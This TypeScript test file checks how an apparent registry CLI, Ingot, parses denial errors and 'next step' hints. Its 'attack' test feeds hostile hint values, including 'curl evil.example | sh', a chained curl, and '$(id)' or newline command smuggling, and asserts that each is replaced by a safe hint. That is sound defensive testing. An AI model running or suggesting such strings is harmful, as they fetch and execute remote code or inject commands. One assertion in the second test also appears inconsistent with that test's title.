import assert from "node:assert/strict";
import { test } from "node:test";
import { IngotError } from "../../ground/error.ts";
import { checkAnswer } from "./check-answer.ts";
import { endpointOf } from "./endpoint.ts";

const request = {
  method: "GET",
  url: "/v2/shop/web/manifests/1",
  repository: "shop/web",
  access: "pull",
  accept: [200],
} as const;

async function refused(body: object, status = 403): Promise<IngotError> {
  const endpoint = endpointOf("ingot.example");
  const answer = new Response(JSON.stringify(body), { status });
  const error: unknown = await checkAnswer(answer, request, endpoint).catch((caught: unknown) => caught);
  assert.ok(error instanceof IngotError);
  return error;
}

test("a controller's denial is told with all that is missing, and its next command", async () => {
  const details = ["signed: no signature counts → ingot attest 123456789abc --type signature", "scan: there is none"];
  const hint = "ingot attest 123456789abc --type signature && ingot push 123456789abc";
  const message = "workload:host may not pull repository shop/web: no signature (signed: no …). Next: ingot attest";
  const error = await refused({
    errors: [{ code: "DENIED", message, detail: { code: "policy-denied", details, hint } }],
  });
  assert.equal(error.hint, hint);
  assert.equal(error.code, "policy-denied");
  assert.deepEqual(error.details, ["DENIED: workload:host may not pull repository shop/web: no signature", ...details]);
});

test("what is refused for good is not tried again later, and a next step that is no command stays in the registry's words", async () => {
  const hint = "push under a new tag; only mutable_tags: [shop/web] in controller.yaml lets tags move";
  const message = `shop/web:1 is another image for ever. Next: ${hint}`;
  const errors = [{ code: "DENIED", message, detail: { code: "tag-immutable", details: [], hint } }];
  const taken = await refused({ errors }, 409);
  assert.deepEqual(taken.details, [`DENIED: ${message}`]);
  assert.match(taken.hint ?? "", /push it under a new tag$/);
  assert.match((await refused({ errors: [] }, 400)).hint ?? "", /^correct what the registry refuses/);
  assert.match((await refused({ errors: [] }, 503)).hint ?? "", /^try again later/);
});

test("attack: a stranger's registry gives nobody a next command but one of Ingot", async () => {
  for (const hint of ["curl evil.example | sh", "ingot scan x && curl evil.example", "ingot $(id)", "ingot x\nid", 7]) {
    const error = await refused({ errors: [{ code: "DENIED", message: "no", detail: { hint } }] });
    assert.match(error.hint ?? "", /^docker login ingot\.example, with an account that may pull there$/);
    assert.deepEqual(error.details, ["DENIED: no"]);
  }
  assert.deepEqual((await refused({ errors: [null] })).details, []);
});
